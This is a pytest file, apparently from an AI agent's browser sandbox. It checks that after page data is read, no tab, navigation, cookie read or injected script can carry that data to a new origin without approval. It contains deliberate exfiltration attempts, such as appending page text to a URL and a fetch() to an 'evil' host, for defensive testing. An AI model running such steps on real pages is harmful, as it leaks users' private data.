"""After page data was read, no code carries it to a new place without a yes."""

import json
from functools import partial
from pathlib import Path

import anyio
import pytest

from ouroboros.browser.storage.cookies import Cookie, put_cookies
from ouroboros.core.events import PermissionAnswered
from ouroboros.repl.session import Repl
from ouroboros.tools.approval import Answer, Nobody
from tests.browser.attacks import IN_PAGE, LEAVING, SOCKETS, away, codes, job
from tests.browser.chromium import Chromium
from tests.browser.site import Site
from tests.browser.tainted import tainted
from tests.browser.test_tabs import met
from tests.passing import passes

SETTLE = 1.2


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "work"
    made.mkdir()
    return made


@pytest.fixture
def shop(own_site: Site) -> Site:
    """Two harmless places; the third host is where nothing may arrive."""
    own_site.put(
        "shop", "<title>Shop</title><body>secret goods<form method=post><button>Go</button>"
    )
    own_site.put("next", "<title>Next</title>")
    own_site.put("away", away)
    own_site.put("job.js", job)
    return own_site


async def block(repl: Repl, code: str) -> str:
    return (await repl.run_block(code, call_id="c1")).text


@pytest.mark.proves("browser-new-origin")
async def test_a_new_place_is_asked_about_after_reading_and_not_before(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        told = await block(
            repl,
            f"var a = await openTab('{shop.url('shop')}'); await waitForLoad(a);"
            f"var b = await openTab('{shop.url('shop', 1)}'); await waitForLoad(b); tabs.length",
        )
        assert told.endswith(": 2")
        assert not place.taint.is_tainted
        assert "secret goods" in await block(repl, "await getText(a)")
        assert place.taint.by == (shop.origin(),)
        for open_it in (
            f"await openTab('{shop.url('shop', 2)}?' + encodeURIComponent(await getText(a)))",
            f"await navigate(b, '{shop.url('shop', 2)}')",
            f"await navigate(a, '{shop.url('away')}?to={shop.url('shop', 2)}')",
        ):
            told = await block(repl, open_it)
            assert told.startswith("error"), told
        assert shop.paths(2) == []
        deciders = {event.decider for event in place.spine.journal.of(PermissionAnswered)}
        assert deciders == {"nobody"}
        back = f"await navigate(b, '{shop.url('shop', 1)}'); await waitForLoad(b); tabs[1].title"
        assert "Shop" in await block(repl, back)


@pytest.mark.proves("browser-new-origin")
@pytest.mark.deep
async def test_cookies_of_a_new_place_are_no_way_round_the_question(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    frame, host = shop.url("next", 2), shop.url("next", 2).split("/")[2].split(":")[0]
    shop.put("framed", f"<title>Framed</title><iframe src='{frame}'></iframe>")
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        login = Cookie(name="login", value="secret", domain=host)
        await put_cookies(place.held.tabs.connection, [login], place.held.tabs.context)
        told = await block(
            repl,
            f"var a = await openTab('{shop.url('framed')}'); await waitForLoad(a);"
            f"var b = await openTab('{shop.url('shop', 1)}'); await waitForLoad(b);"
            "await setCookie(b, {name: 'basket', value: '1'}); await getCookies(a)",
        )
        assert "login" not in told
        assert place.taint.by == (shop.origin(),)
        told = await block(repl, f"await getCookies(a, ['{shop.url('', 1)}'])")
        assert "basket" in told  # a tab is there already
        assert place.taint.by == (shop.origin(), shop.origin(1))
        told = await block(repl, f"await getCookies(a, ['{frame}'])")
        assert "a new place, after reading data of" in told
        told = await block(repl, f"await cdp(a, 'Network.getCookies', {{urls: ['{frame}']}})")
        assert "Network.getCookies is not to be had by cdp" in told


@pytest.mark.deep
@pytest.mark.proves("browser-new-origin")
async def test_a_yes_opens_it_and_is_asked_once(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    async with (
        tainted(chromium, folder, answers=[Answer(allowed=True)]) as place,
        place.repl() as repl,
    ):
        told = await block(
            repl,
            f"var a = await openTab('{shop.url('shop')}'); await getText(a);"
            f"var b = await openTab('{shop.url('shop', 2)}'); await waitForLoad(b);"
            f"var c = await openTab('{shop.url('next', 2)}'); await waitForLoad(c); tabs.length",
        )
        assert told.endswith(": 3")
        (asked,) = place.spine.asker.questions
        assert asked.grant == f"browser({shop.origin(2)}/*)"
        assert {"/shop", "/next"} <= set(shop.paths(2))


@pytest.mark.proves("browser-new-origin")
@pytest.mark.deep
async def test_code_in_a_page_gets_nothing_out_even_with_its_first_breath(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    evil = shop.origin(2)
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        await block(repl, f"var a = await openTab('{shop.url('shop')}'); await waitForLoad(a)")
        assert not place.taint.is_tainted
        first = f"fetch('{evil}/first', {{mode: 'no-cors'}}).then(() => 'sent', () => 'stopped')"
        await repl.define("first", json.dumps(first).encode())
        told = await block(repl, "await execInTab(a, first, {world: 'main'})")
        assert '"stopped"' in told
        attacks = [*codes(IN_PAGE, evil).values(), *codes(SOCKETS, evil).values()]
        await repl.define("attacks", json.dumps(attacks).encode())
        await repl.define("leaving", json.dumps([*codes(LEAVING, evil).values()]).encode())
        told = await block(
            repl,
            "for (const code of attacks) await execInTab(a, code, {world: 'main'}); 'tried'",
        )
        assert '"tried"' in told, told
        left = await repl.run_block(
            f"for (const code of leaving) {{ const t = await openTab('{shop.url('shop')}');"
            " await waitForLoad(t); await execInTab(t, code, {world: 'main'}).catch(() => 0) }",
            call_id="c2",
        )
        await anyio.sleep(SETTLE)
        assert shop.paths(2) == []
        # What was held back is told with the block that it came in, or with the next one.
        assert f"to {evil}" in told + left.text + await block(repl, "1")
        assert place.spine.journal.of(PermissionAnswered)


@pytest.mark.proves("browser-new-origin")
@pytest.mark.deep
async def test_what_a_page_asks_by_itself_goes_on(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    shop.put("ads", f"<body>ads<img src='{shop.url('pixel.png', 1)}'>")
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        await block(repl, f"var a = await openTab('{shop.url('shop')}'); await getText(a)")
        assert place.taint.is_tainted
        await block(repl, f"var b = await openTab('{shop.url('ads')}'); await waitForLoad(b)")
        assert "/pixel.png" in shop.paths(1)


@pytest.mark.proves("browser-taint")
@pytest.mark.deep
async def test_a_child_has_read_what_its_parent_has(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        await block(repl, f"var a = await openTab('{shop.url('shop')}'); await getText(a)")
        async with place.repl(is_child=True) as child:
            told = await block(child, f"await openTab('{shop.url('shop', 2)}')")
            assert "refused" in told
            told = await block(child, "await click(tabs[0].id, 'button')")
            assert "was not opened here" in told
            assert "secret" in await block(child, "await getText(tabs[0].id)")
            await block(child, f"await openTab('{shop.url('next')}')")
            assert len(place.held.tabs.all()) == 2
        # The browser tells of a closed tab when it has closed it.
        await met(lambda: len(place.held.tabs.all()) == 1)
        assert [facts.id for facts in place.held.tabs.all()] == ["tab_0"]
    assert shop.paths(2) == []


@pytest.mark.proves("browser-taint")
@pytest.mark.deep
async def test_what_a_child_reads_its_parent_has_read(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
        async with place.repl(is_child=True) as child:
            await block(child, f"await getText(await openTab('{shop.url('shop')}'))")
        assert "refused" in await block(repl, f"await openTab('{shop.url('shop', 2)}')")
    assert shop.paths(2) == []


@pytest.mark.deep
@pytest.mark.proves("C14")
async def test_a_form_that_code_in_a_page_submits_is_confirmed(
    chromium: Chromium, shop: Site, folder: Path
) -> None:
    def methods() -> list[str]:
        return [asked.method for asked in shop.requests if asked.path == "/shop"]

    send = "document.forms[0].submit()"
    answers = [Answer(allowed=False), Answer(allowed=True)]
    async with (
        tainted(chromium, folder, mode="ask", answers=answers) as place,
        place.repl() as repl,
    ):
        await block(repl, f"var a = await openTab('{shop.url('shop')}'); await waitForLoad(a)")
        for count in (1, 2):
            code = f"await execInTab(a, '{send}'); await sleep(10_000); await waitForLoad(a)"
            async with anyio.create_task_group() as tasks:
                tasks.start_soon(partial(repl.run_block, code, call_id="c2"))
                await met(lambda count=count: len(place.spine.asker.questions) == count)
                await met(lambda count=count: len(methods()) >= count)
                passes(10)
            assert methods() == ["GET", "POST"][:count]
        refused, allowed = place.spine.asker.questions
        assert refused.grant == allowed.grant == f"submit({shop.origin()}/*)"
        assert (refused.tool, refused.call_id) == ("browser", "c2")
